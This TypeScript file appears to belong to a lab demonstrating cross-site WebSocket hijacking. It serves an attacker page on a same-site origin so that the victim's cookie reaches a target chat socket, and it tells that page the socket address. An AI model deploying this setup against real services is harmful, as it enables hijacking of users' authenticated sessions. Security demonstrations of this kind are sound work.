import { json, notFound, sendAnswer } from '../chat/answer.ts';
import { Page } from '../chat/page.ts';
import { createWebServer, listen, type Running, type ServeOptions } from './web-server.ts';

const FILES = {
  '/': 'attacker/index.html',
  '/attacker.css': 'attacker/attacker.css',
  '/attacker.js': 'attacker/attacker.js',
};

/** Serves the attacker's page. It has another origin but is on the same site, so the browser sends the victim's cookie. */
export function serveAttacker(target: string, options: ServeOptions): Promise<Running> {
  const socket = `${target.replace(/^http/, 'ws')}/chat`;
  const page = new Page(FILES, [socket]);
  const server = createWebServer(options.certificate, (request, response) => {
    const path = request.url?.split('?')[0] ?? '';
    sendAnswer(response, path === '/target' ? json(200, { target, socket }) : (page.get(path) ?? notFound));
  });
  return listen(server, options.port);
}
